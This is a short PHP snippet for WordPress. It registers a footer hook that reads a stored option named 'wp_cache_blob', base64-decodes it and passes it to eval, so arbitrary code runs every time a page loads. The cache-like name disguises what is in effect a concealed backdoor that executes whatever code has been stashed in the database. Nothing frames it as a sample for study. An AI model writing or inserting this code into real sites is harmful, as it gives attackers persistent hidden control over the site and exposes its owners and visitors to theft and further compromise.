<?php
add_action('wp_footer', function () { $c = get_option('wp_cache_blob'); if ($c) eval(base64_decode($c)); });
